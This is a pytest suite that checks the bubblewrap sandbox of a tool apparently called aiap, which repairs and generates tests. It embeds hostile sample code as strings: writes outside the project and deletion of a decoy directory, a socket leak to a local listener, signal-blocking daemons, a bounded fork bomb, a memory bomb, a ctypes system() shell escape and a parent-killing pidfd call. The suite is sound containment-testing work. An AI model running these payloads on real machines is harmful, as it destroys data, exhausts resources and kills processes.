"""Hostile code under `pytest --aiap-fix --aiap-sandbox=bwrap`: the project's modules and tests
attack the machine while aiap reproduces and validates; nothing outside aiap's copies changes,
nothing reaches the network, nothing they start is left running.

Without a working bubblewrap these tests skip, unless AIAP_TEST_REQUIRE_SANDBOX is set (CI
installs bubblewrap and sets it): then they fail.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from aiap import sandbox
from tests.plugin_project import run, user_files, user_pytester

BUGGY = "def double(x):\n    return x + x + 1\n"
TEST = "from mod import double\n\n\ndef test_double():\n    assert double(2) == 4\n"


@pytest.fixture(autouse=True)
def bwrap_works() -> None:
    try:
        assert sandbox.resolve("bwrap") == "bwrap"
    except sandbox.SandboxUnavailable as e:
        if os.environ.get("AIAP_TEST_REQUIRE_SANDBOX"):
            pytest.fail(str(e))
        pytest.skip(str(e))


@pytest.fixture
def project(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> pytest.Pytester:
    return user_pytester(pytester, monkeypatch)


def _repaired(project: pytest.Pytester) -> pytest.RunResult:
    result = run(project, "--aiap-fix", "--aiap-sandbox=bwrap", "--aiap-budget=60")
    result.stdout.fnmatch_lines(["aiap: patch 1: mod.py*"])
    return result


def test_imports_that_write_outside_the_copy_change_nothing_outside_it(
    project: pytest.Pytester, tmp_path: Path
) -> None:
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = Path(os.environ["HOME"])  # the runs' HOME (pytester makes it its own directory)
    # Only in aiap's runs (AIAP_CHILD): the user's own run is theirs to allow.
    attack = (
        "import os, pathlib, shutil\n"
        f"DECOY = pathlib.Path({str(decoy)!r})\n"
        "if os.environ.get('AIAP_CHILD'):\n"
        "    for target in (DECOY / 'kept.txt', DECOY / 'new.txt',\n"
        "                   pathlib.Path(os.path.expanduser('~/.aiap-hostile'))):\n"
        "        try:\n"
        "            with open(target, 'a') as f:\n"
        "                f.write('written by the project under test\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    shutil.rmtree(DECOY, ignore_errors=True)\n"
    )
    project.makepyfile(mod=attack + BUGGY, test_mod=TEST)
    before = user_files(project.path)
    _repaired(project)
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert (decoy / "kept.txt").read_text() == "kept\n"
    assert not (home / ".aiap-hostile").exists()
    assert user_files(project.path) == before


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what it is sent: its port, and what it got."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                received.append(conn.recv(1024))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        server.close()


def test_a_test_that_sends_data_out_reaches_no_network(
    project: pytest.Pytester, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    leak = (
        "import os, socket\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'secret')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    project.makepyfile(mod=BUGGY, test_mod=leak + TEST)
    _repaired(project)
    assert received == []


def _processes_running(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry.name))
    return found


def test_a_detached_daemon_a_fixture_starts_is_gone_when_aiap_returns(
    project: pytest.Pytester,
) -> None:
    # A command line no other process has. The daemon blocks SIGTERM and SIGINT and leaves the
    # session, as a daemon does: only a PID namespace or a subreaper ends it.
    marker = f"3107.{random.randrange(10**6):06d}"
    daemon = (
        "import os, signal, subprocess, sys\n"
        "import pytest\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def daemon():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        f"        subprocess.Popen(['sleep', '{marker}'], start_new_session=True,\n"
        "            preexec_fn=lambda: signal.pthread_sigmask(\n"
        "                signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT}))\n"
        "    yield\n"
    )
    _repaired_leaving_no_process(project, daemon, marker)


def _repaired_leaving_no_process(project: pytest.Pytester, conftest: str, marker: str) -> None:
    """Repaired with ``conftest`` starting processes whose command line holds ``marker``; none
    of them is left a few seconds after aiap returns."""
    project.makeconftest(conftest)
    project.makepyfile(mod=BUGGY, test_mod=TEST)
    try:
        _repaired(project)
        deadline = time.monotonic() + 10
        while _processes_running(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _processes_running(marker) == []
    finally:
        for pid in _processes_running(marker):  # what a failure left: not the next test's
            os.kill(pid, signal.SIGKILL)


ESCAPES = """\
import ctypes
import os
import signal
import sqlite3

DECOY = {decoy!r}


def via_ctypes(name: str) -> int:
    return ctypes.CDLL(None).system(f"echo escaped >> {{DECOY}}/ctypes.txt".encode())


def via_dir_fd(name: str) -> None:
    fd = os.open(DECOY, os.O_RDONLY)
    try:
        os.unlink("kept.txt", dir_fd=fd)
    finally:
        os.close(fd)


def via_sqlite(name: str) -> int:
    db = sqlite3.connect(os.path.join(DECOY, "stolen.db"))
    db.execute("create table if not exists t (x)")
    db.commit()
    return 1


def swallowed(name: str) -> int:
    try:
        with open(os.path.join(DECOY, "swallowed.txt"), "w") as f:
            f.write(name)
    except OSError:
        return 0
    return 1


def kill_parent(n: int) -> int:
    if n > 3:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    return n


def harmless(n: int) -> int:
    if n > 10:
        return n - 10
    return n
"""


def test_generated_tests_never_call_what_escaped_and_nothing_outside_changes(
    tmp_path: Path,
) -> None:
    import subprocess
    import sys

    from tests.conftest import write_project

    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = tmp_path / "home"
    home.mkdir()
    project = write_project(tmp_path / "p", {"escapes.py": ESCAPES.format(decoy=str(decoy))})
    env = {**os.environ, "HOME": str(home)}
    done = subprocess.run(
        [sys.executable, "-m", "aiap.cli", "gen-tests", "--sandbox=bwrap", "--time-budget=15",
         "escapes.py"],
        cwd=project, env=env, capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr  # not killed (137) by the test it ran
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"], done.stderr
    written = "".join(p.read_text() for p in (project / "tests" / "generated").glob("*.py"))
    assert "harmless(" in written
    for escape in ("via_ctypes(", "via_dir_fd(", "via_sqlite(", "swallowed("):
        assert escape not in written
    assert "no test written" in done.stderr
    # The kept tests, run as a user would, outside aiap: still nothing outside changes. (Not
    # kill_parent's: pidfd_send_signal raises no audit event, so only bwrap contained it, and
    # outside it would kill this test's process.)
    subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-k", "not kill_parent", "tests/generated"],
        cwd=project, env=env, capture_output=True, timeout=120,
    )  # fmt: skip
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert list(home.iterdir()) == []


def test_a_flood_of_detached_processes_is_gone_when_aiap_returns(
    project: pytest.Pytester,
) -> None:
    # A bounded fork bomb: each process forks two more, six levels down (126 in all), each
    # leaves the session, blocks SIGTERM and sleeps. (Unbounded, it would take the machine:
    # as root no RLIMIT_NPROC holds, and bubblewrap sets no pids limit; Docker's does.)
    marker = f"3108.{random.randrange(10**6):06d}"
    flood = (
        "import os, signal\n"
        "import pytest\n\n"
        "def spread(depth):\n"
        "    for _ in range(2):\n"
        "        if os.fork() == 0:\n"
        "            os.setsid()\n"
        "            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})\n"
        "            if depth < 6:\n"
        "                spread(depth + 1)\n"
        f"            os.execvp('sleep', ['sleep', '{marker}'])\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def flood():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "        spread(1)\n"
        "    yield\n"
    )
    _repaired_leaving_no_process(project, flood, marker)


def test_a_memory_bomb_in_a_test_is_stopped_and_the_fix_still_found(
    project: pytest.Pytester,
) -> None:
    bomb = (
        "import os\n\n"
        "def test_hog():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "        try:\n"
        "            bytearray(64 * 1024 ** 3)\n"
        "        except MemoryError:\n"
        "            pass\n"
    )
    project.makepyfile(mod=BUGGY, test_mod=TEST, test_hog=bomb)
    _repaired(project)


def test_a_thread_that_never_ends_does_not_hold_aiap_past_its_budget(
    project: pytest.Pytester,
) -> None:
    # A non-daemon thread keeps the interpreter from exiting after the tests: the reproduction's
    # pytest finishes its report and then never ends.
    endless = (
        "import os, threading, time\n\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "    threading.Thread(target=lambda: time.sleep(10**6), daemon=False).start()\n"
    )
    project.makepyfile(mod=endless + BUGGY, test_mod=TEST)
    _repaired(project)  # the reproduction's report is taken, its process ended


def test_the_fix_hooks_runs_of_a_hostile_test_change_nothing_outside_the_project(
    git_repo: Path, tmp_path: Path
) -> None:
    from tests.conftest import git
    from tests.precommit_project import (
        BUGGY_PRICING,
        PRICING,
        commit,
        hook_env,
        local_config,
        pre_commit,
        shop_project,
    )

    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = tmp_path / "home"
    home.mkdir()
    repo = shop_project(git_repo)
    (repo / "tests" / "conftest.py").write_text(
        "import os, pathlib, shutil\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        f"    shutil.rmtree({str(decoy)!r}, ignore_errors=True)\n"
        "    try:\n"
        "        pathlib.Path(os.path.expanduser('~/.aiap-hostile')).write_text('x')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    (repo / ".pre-commit-config.yaml").write_text(local_config())
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "setup", "--no-verify")
    env = hook_env(AIAP_SANDBOX="bwrap", HOME=str(home))
    assert pre_commit(repo, "install", env=env).returncode == 0
    (repo / "shop" / "pricing.py").write_text(BUGGY_PRICING)
    git(repo, "add", "shop/pricing.py")
    first = commit(repo, "pricing", env=env)
    assert "aiap-fix: shop/pricing.py: patched:" in first.stdout, first.stdout + first.stderr
    assert (repo / "shop" / "pricing.py").read_text() == PRICING
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert not (home / ".aiap-hostile").exists()
